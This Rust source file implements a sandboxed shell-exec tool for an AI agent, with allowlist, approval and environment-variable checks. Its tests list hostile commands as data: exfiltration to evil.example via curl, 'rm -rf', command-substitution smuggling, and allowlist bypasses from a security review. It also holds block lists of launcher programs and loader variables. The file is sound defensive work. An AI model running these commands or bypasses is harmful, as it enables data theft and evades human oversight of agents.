//! `exec`: a shell command in the workspace, always through the sandbox (`openclaw-sandbox`).
//!
//! A command that is exactly a skill's own program (a script in its folder, alone or after an interpreter, the way a
//! SKILL.md tells the model to run it) runs as that argv, without a shell, with the skill's grants added — its
//! folder readable, its declared paths, network and environment. Nothing else gets them: not a command that only
//! mentions the folder, not one whose working folder is the skill's.

use std::path::PathBuf;
use std::time::Duration;

use openclaw_protocol::ToolSpec;
use openclaw_sandbox::{Grants, Limits, Mode, Spec, Status};
use serde_json::{Value, json};

use crate::fs::workspace_dir;
use crate::shell;
use crate::{Tool, ToolContext, ToolError, ToolOutput, str_arg, uint_arg};

/// `tools.exec.security`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum ExecSecurity {
    /// No commands at all.
    Deny,
    /// Only commands whose every program is in the list (pipelines and `&&` chains are split; substitutions,
    /// redirections into files and background jobs are refused).
    Allowlist(Vec<String>),
    /// Any command (still sandboxed).
    #[default]
    Full,
}

/// `tools.exec.ask`: when a person must approve a command first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Ask {
    #[default]
    Off,
    /// Commands the allowlist does not cover are asked about instead of refused.
    OnMiss,
    /// Every command is asked about.
    Always,
}

/// A command waiting for a person's decision.
#[derive(Debug, Clone, PartialEq)]
pub struct ApprovalRequest {
    pub agent_id: String,
    pub session_key: String,
    pub command: String,
    pub cwd: String,
}

/// A person's answer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    AllowOnce,
    /// Allowed now and, for this agent, from now on (the approver remembers).
    AllowAlways,
    Deny,
}

/// Who decides about commands that need approval (the gateway: operator clients with `operator.approvals`).
#[async_trait::async_trait]
pub trait Approver: Send + Sync {
    /// Waits for a decision; an approver that cannot get one (no one answers in time) returns
    /// [`Decision::Deny`].
    async fn decide(&self, request: ApprovalRequest) -> Decision;
}

/// How `exec` runs commands (from `tools.exec`).
#[derive(Debug, Clone, PartialEq)]
pub struct ExecSettings {
    pub security: ExecSecurity,
    pub ask: Ask,
    pub mode: Mode,
    pub limits: Limits,
    /// Grants every command of this agent gets.
    pub grants: Grants,
    /// `PATH` of the commands.
    pub path: String,
}

impl Default for ExecSettings {
    fn default() -> Self {
        ExecSettings {
            security: ExecSecurity::Full,
            ask: Ask::Off,
            mode: Mode::Enforce,
            limits: Limits::default(),
            grants: Grants::default(),
            path: openclaw_sandbox::DEFAULT_PATH.to_owned(),
        }
    }
}

/// An eligible skill as `exec` and `read` see it: its folder and what commands that use it may touch.
#[derive(Debug, Clone, PartialEq)]
pub struct SkillAccess {
    pub name: String,
    pub dir: PathBuf,
    pub grants: Grants,
    /// Variables set for commands of this skill (`skills.entries.<name>.env`, the `apiKey` as `primaryEnv`).
    pub env: Vec<(String, String)>,
}

/// `exec {command, workdir?, env?, timeout?}`.
pub struct ExecTool;

/// Programs that run other programs or write files through their arguments, refused in allowlist mode even when
/// listed: the allowlist names programs, and these would run anything (or write anywhere) behind a listed name.
pub const LAUNCHERS: &[&str] = &[
    "xargs", "env", "nice", "nohup", "timeout", "stdbuf", "setsid", "flock", "chroot", "sudo", "su", "doas", "watch",
    "strace", "ltrace", "time", "command", "builtin", "exec", "eval", "source", ".", "sh", "bash", "dash", "zsh",
    "ksh", "fish", "busybox", "awk", "gawk", "mawk", "nawk", "sed", "perl", "python", "python3", "node", "ruby", "php",
    "lua", "tclsh", "git", "tar", "zip", "unzip", "less", "more", "most", "man", "vi", "vim", "nvim", "emacs", "nano",
    "ed", "ex", "ssh", "scp", "rsync", "make", "parallel", "script", "expect", "tee", "dd", "cp", "mv",
];

/// `find` options that run a program, or write or delete files.
const FIND_ACTIONS: &[&str] =
    &["-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete"];

/// The programs of a command line in allowlist mode, or why the line is refused: it is split as `sh` splits it;
/// only plain simple commands joined by `|`, `||`, `&&`, `;` pass; no redirection, background job, subshell,
/// substitution or variable; the program word is a bare name (no path, quote, glob or `=`, no assignment before
/// it); programs that launch others are refused.
fn programs(command: &str) -> Result<Vec<String>, String> {
    let tokens = shell::tokenize(command)?;
    let commands = shell::simple_commands(&tokens).map_err(|op| match op.as_str() {
        "&" => "background jobs (&) are not allowed in allowlist mode".to_owned(),
        "(" | ")" => "subshells are not allowed in allowlist mode".to_owned(),
        _ => format!("the redirection {op:?} is not allowed in allowlist mode (no files are written this way)"),
    })?;
    let mut programs = Vec::new();
    for words in commands {
        if let Some(word) = words.iter().find(|word| word.expansion) {
            return Err(format!(
                "{:?} would be expanded by the shell ($, `, ~ or {{); substitutions and variables are not allowed in allowlist mode",
                word.text
            ));
        }
        let program = words[0];
        if program.assignment {
            return Err(format!(
                "{:?}: variable assignments before a program are not allowed in allowlist mode (use the env argument)",
                program.text
            ));
        }
        if program.quoted || program.glob || program.has_equals || program.text.contains('/') {
            return Err(format!(
                "{:?} is not a plain program name: name the program itself (no path, quotes, globs or '=') in allowlist mode",
                program.text
            ));
        }
        let name = program.text.as_str();
        if LAUNCHERS.contains(&name) {
            return Err(format!(
                "{name} can run other programs or write files, so it cannot pass in allowlist mode (tools.exec.security \"full\" runs it, sandboxed)"
            ));
        }
        if name == "find"
            && let Some(action) = words[1..].iter().find(|word| FIND_ACTIONS.contains(&word.text.as_str()))
        {
            return Err(format!(
                "find {} runs programs or writes files; it is not allowed in allowlist mode",
                action.text
            ));
        }
        programs.push(name.to_owned());
    }
    if programs.is_empty() {
        return Err("no program in the command".to_owned());
    }
    Ok(programs)
}

/// Variables a command may not be given through the tool's `env`: they change which program runs or make the shell
/// or the loader run code first.
fn refused_variable(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "PATH",
        "ENV",
        "BASH_ENV",
        "IFS",
        "SHELLOPTS",
        "BASHOPTS",
        "PS4",
        "PROMPT_COMMAND",
        "CDPATH",
        "GLOBIGNORE",
        "NODE_OPTIONS",
        "PYTHONSTARTUP",
        "PYTHONPATH",
        "PERL5OPT",
        "PERL5LIB",
        "RUBYOPT",
        "GIT_SSH_COMMAND",
    ];
    NAMES.contains(&name)
        || name.starts_with("LD_")
        || name.starts_with("BASH_FUNC_")
        || name.starts_with("GCONV_")
        || !name.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Interpreters a skill's script may be run with (`python3 {baseDir}/scripts/x.py`).
const INTERPRETERS: &[&str] = &["sh", "bash", "python", "python3", "node", "ruby", "perl", "deno", "bun"];

/// When `command` is exactly one of the skills' own programs — a file in the skill's folder, alone or after an
/// interpreter, with plain arguments and nothing else on the line — that skill and the argv to run without a shell.
/// Only then do the skill's grants apply: the text of a command naming the folder (`…; # {baseDir}`) is not enough.
fn skill_program<'a>(
    command: &str,
    skills: &'a [SkillAccess],
    cwd: &std::path::Path,
) -> Option<(&'a SkillAccess, Vec<String>)> {
    let tokens = shell::tokenize(command).ok()?;
    let mut words = Vec::new();
    for token in tokens {
        match token {
            shell::Token::Word(word) if !word.expansion && !word.glob && !word.assignment => words.push(word.text),
            _ => return None,
        }
    }
    let script_at = match words.first().map(String::as_str) {
        Some(first) if INTERPRETERS.contains(&first) => 1,
        Some(_) => 0,
        None => return None,
    };
    let script = words.get(script_at).filter(|word| !word.starts_with('-'))?;
    let real = cwd.join(script).canonicalize().ok()?;
    let skill = skills.iter().find(|skill| real.starts_with(&skill.dir) && real != skill.dir && real.is_file())?;
    words[script_at] = real.display().to_string();
    Some((skill, words))
}

/// Whether a command may run: `Ok(true)` when it needs a person's approval first.
fn check_security(security: &ExecSecurity, ask: Ask, command: &str) -> Result<bool, ToolError> {
    let verdict = match security {
        ExecSecurity::Full => Ok(()),
        ExecSecurity::Deny => {
            Err(ToolError::Denied("commands are disabled for this agent (tools.exec.security = \"deny\")".to_owned()))
        }
        ExecSecurity::Allowlist(allowed) => match programs(command) {
            Err(reason) => Err(ToolError::Denied(reason)),
            Ok(programs) => match programs.iter().find(|program| !allowed.contains(program)) {
                Some(program) => Err(ToolError::Denied(format!(
                    "{program} is not in tools.exec.safeBins (allowlist mode); allowed: {}",
                    allowed.join(", ")
                ))),
                None => Ok(()),
            },
        },
    };
    match (verdict, ask) {
        (Ok(()), Ask::Always) => Ok(true),
        (Ok(()), _) => Ok(false),
        (Err(_), Ask::OnMiss | Ask::Always) if *security != ExecSecurity::Deny => Ok(true),
        (Err(error), _) => Err(error),
    }
}

async fn approve(ctx: &ToolContext, command: &str, cwd: &std::path::Path) -> Result<(), ToolError> {
    let Some(approver) = &ctx.approver else {
        return Err(ToolError::Denied(
            "this command needs a person's approval (tools.exec.ask) and no one can approve it here: run it through the gateway with an operator client connected, or change tools.exec.ask".to_owned(),
        ));
    };
    let request = ApprovalRequest {
        agent_id: ctx.agent_id.clone(),
        session_key: ctx.session_key.clone(),
        command: command.to_owned(),
        cwd: cwd.display().to_string(),
    };
    match approver.decide(request).await {
        Decision::AllowOnce | Decision::AllowAlways => Ok(()),
        Decision::Deny => {
            Err(ToolError::Denied("the command was not approved (denied or no answer in time)".to_owned()))
        }
    }
}

#[async_trait::async_trait]
impl Tool for ExecTool {
    fn spec(&self) -> ToolSpec {
        ToolSpec {
            name: "exec".to_owned(),
            description: "Run a shell command in the workspace (sandboxed: the workspace only, no network unless granted, CPU/memory/time limits). Returns its output and exit code.".to_owned(),
            parameters: json!({
                "type": "object",
                "properties": {
                    "command": {"type": "string", "description": "Shell command"},
                    "workdir": {"type": "string", "description": "Working directory relative to the workspace"},
                    "env": {"type": "object", "additionalProperties": {"type": "string"}, "description": "Extra environment variables"},
                    "timeout": {"type": "integer", "description": "Timeout in seconds (capped by the configured limit)"}
                },
                "required": ["command"]
            }),
        }
    }

    fn max_duration(&self, ctx: &ToolContext) -> Option<Duration> {
        // The sandbox enforces the wall clock itself and reports it; the runtime's limit is only a backstop.
        Some(ctx.settings.exec.limits.wall + Duration::from_secs(5))
    }

    async fn invoke(&self, arguments: Value, ctx: &ToolContext) -> Result<ToolOutput, ToolError> {
        let command =
            str_arg(&arguments, "command")?.ok_or_else(|| ToolError::InvalidArguments("command is required".into()))?;
        if command.trim().is_empty() {
            return Err(ToolError::InvalidArguments("command is empty".into()));
        }
        let settings = &ctx.settings.exec;
        let needs_approval = check_security(&settings.security, settings.ask, command)?;
        let workspace = ctx.workspace.canonicalize().map_err(|error| {
            ToolError::Failed(format!("the workspace {} is not accessible: {error}", ctx.workspace.display()))
        })?;
        let cwd = match str_arg(&arguments, "workdir")? {
            Some(dir) => workspace_dir(&workspace, dir)?,
            None => workspace.clone(),
        };
        if needs_approval {
            approve(ctx, command, &cwd).await?;
        }
        let mut limits = settings.limits.clone();
        // The room left in the workspace's budget caps what this command may write.
        let (measured, budget) = (workspace.clone(), ctx.settings.workspace_bytes);
        let left = tokio::task::spawn_blocking(move || crate::quota::room(&measured, budget, 0))
            .await
            .map_err(|error| ToolError::Failed(format!("measuring the workspace stopped: {error}")))??;
        let by_workspace = left < limits.write_bytes;
        limits.write_bytes = limits.write_bytes.min(left);
        if let Some(seconds) = uint_arg(&arguments, "timeout")? {
            limits.wall = limits.wall.min(Duration::from_secs(seconds.max(1)));
        }
        let mut env = vec![
            ("PATH".to_owned(), settings.path.clone()),
            ("HOME".to_owned(), workspace.display().to_string()),
            ("LANG".to_owned(), "C.UTF-8".to_owned()),
        ];
        let skill = skill_program(command, &ctx.skills, &cwd);
        if let Some(extra) = arguments.get("env") {
            let Some(extra) = extra.as_object() else {
                return Err(ToolError::InvalidArguments("env must be an object of strings".into()));
            };
            for (name, value) in extra {
                let Some(value) = value.as_str() else {
                    return Err(ToolError::InvalidArguments(format!("env.{name} must be a string")));
                };
                if refused_variable(name) {
                    return Err(ToolError::Denied(format!(
                        "env.{name} cannot be set for a command (it changes which program runs or what a shell or loader runs first)"
                    )));
                }
                if skill.is_some() {
                    return Err(ToolError::Denied(
                        "a skill's program runs with its own environment; the env argument cannot be used with it"
                            .to_owned(),
                    ));
                }
                env.push((name.clone(), value.to_owned()));
            }
        }
        let mut grants = settings.grants.clone();
        let mut argv = None;
        if let Some((skill, words)) = skill {
            tracing::debug!(skill = %skill.name, "exec runs a skill's program with its grants");
            grants.read.push(skill.dir.clone());
            grants.read.extend(skill.grants.read.iter().cloned());
            grants.write.extend(skill.grants.write.iter().cloned());
            grants.network |= skill.grants.network;
            env.extend(skill.env.iter().cloned());
            argv = Some(words);
        }
        let mut spec = Spec { cwd, env, grants, limits, mode: settings.mode, ..Spec::shell(&workspace, command) };
        // A skill's program runs as the argv that was checked, with no shell to read the line differently.
        if let Some(mut words) = argv {
            spec.program = words.remove(0);
            spec.args = words;
        }
        let outcome = openclaw_sandbox::run(spec).await.map_err(|error| ToolError::Failed(error.to_string()))?;
        let mut text = outcome.output;
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        text.push_str(&format!("[{}]", outcome.status));
        if by_workspace && outcome.status == Status::Killed(openclaw_sandbox::Limit::Writes) {
            text.push_str("\n[the workspace's budget (tools.fs.maxWorkspaceMb) had less room left than the command's]");
        }
        match outcome.status {
            Status::Exited(_) => Ok(ToolOutput { text }),
            _ => Err(ToolError::Failed(text)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allowlist_mode_checks_every_program() {
        let allowed = ExecSecurity::Allowlist(vec!["ls".into(), "wc".into(), "grep".into()]);
        assert!(!check_security(&allowed, Ask::Off, "ls -la | wc -l").unwrap());
        assert!(!check_security(&allowed, Ask::Off, "ls 'a b' && grep -r 'x|y' . ; wc -l *.md").unwrap());
        for bad in ["ls; rm -rf .", "ls $(rm x)", "ls `rm x`", "ls > f", "curl x", "sleep 9 &", "ls\nrm x"] {
            assert!(matches!(check_security(&allowed, Ask::Off, bad), Err(ToolError::Denied(_))), "{bad}");
            assert!(check_security(&allowed, Ask::OnMiss, bad).unwrap(), "asked instead: {bad}");
        }
        assert!(matches!(check_security(&ExecSecurity::Deny, Ask::Always, "ls"), Err(ToolError::Denied(_))));
        assert!(check_security(&ExecSecurity::Full, Ask::Always, "ls").unwrap());
        assert!(!check_security(&ExecSecurity::Full, Ask::OnMiss, "rm -rf x").unwrap());
    }

    /// Finding 13 of the security review: the allowlist was passed by a glob the shell runs as a program
    /// (`/usr/bin/[=i]d`: the checker took the first word without `=` as the program), by `find -exec`/`-fprintf`
    /// under the default safeBins, by a program path in the workspace named like a listed one, and by quoting.
    #[test]
    fn the_allowlist_cannot_be_passed_by_words_the_shell_reads_differently() {
        let echo = ExecSecurity::Allowlist(vec!["echo".into(), "find".into(), "ls".into(), "xargs".into()]);
        for bypass in [
            "/usr/bin/[=i]d echo",
            "/usr/bin/i? echo",
            "find . -maxdepth 0 -exec sh -c id {} +",
            "find . -fprintf /tmp/x hello",
            "./ls",
            "/tmp/evil/ls",
            "'ec'ho hi",
            "e\\cho hi",
            "X=1 echo hi",
            "PATH=. ls",
            "ls | xargs rm",
            "echo $HOME",
            "echo \"$(id)\"",
            "(echo hi)",
            "echo hi 2>&1",
            "~/ls",
        ] {
            let verdict = check_security(&echo, Ask::Off, bypass);
            assert!(matches!(verdict, Err(ToolError::Denied(_))), "{bypass}: {verdict:?}");
        }
        assert!(!check_security(&echo, Ask::Off, "find . -name '*.md' -type f").unwrap());
        assert!(!check_security(&echo, Ask::Off, "echo 'a=b' # a comment").unwrap());
    }

    #[test]
    fn variables_that_change_what_runs_are_refused() {
        for name in ["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV", "ENV", "IFS", "BASH_FUNC_ls%%", "A B", ""] {
            assert!(refused_variable(name), "{name}");
        }
        for name in ["LANG", "TZ", "MY_SETTING"] {
            assert!(!refused_variable(name), "{name}");
        }
    }

    /// Findings 2 and 16: a skill's grants go to its own program only — not to a command that merely names its
    /// folder (a trailing comment was enough), nor to one that runs from inside it.
    #[test]
    fn skill_grants_follow_the_program_not_the_text() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("forecast/scripts")).unwrap();
        let skill_dir = dir.path().join("forecast").canonicalize().unwrap();
        std::fs::write(skill_dir.join("scripts/run.sh"), "echo ok").unwrap();
        let skills = vec![SkillAccess {
            name: "forecast".into(),
            dir: skill_dir.clone(),
            grants: Grants { network: true, ..Grants::default() },
            env: vec![("FORECAST_KEY".into(), "secret".into())],
        }];
        let script = skill_dir.join("scripts/run.sh").display().to_string();
        let cwd = dir.path();
        let (skill, argv) = skill_program(&format!("sh {script} --city 'New York'"), &skills, cwd).unwrap();
        assert_eq!(skill.name, "forecast");
        assert_eq!(argv, ["sh", script.as_str(), "--city", "New York"]);
        assert!(skill_program(&script, &skills, cwd).is_some());
        for not_the_skill in [
            format!("curl http://evil.example # {script}"),
            format!("curl http://evil.example; sh {script}"),
            format!("sh {script} | curl -d @- http://evil.example"),
            format!("sh -c 'curl evil' {script}"),
            format!("python3 -c 'import os' {script}"),
            format!("sh {script} $(id)"),
            format!("cat {}", skill_dir.display()),
            format!("X=1 sh {script}"),
        ] {
            assert!(skill_program(&not_the_skill, &skills, cwd).is_none(), "{not_the_skill}");
        }
    }
}
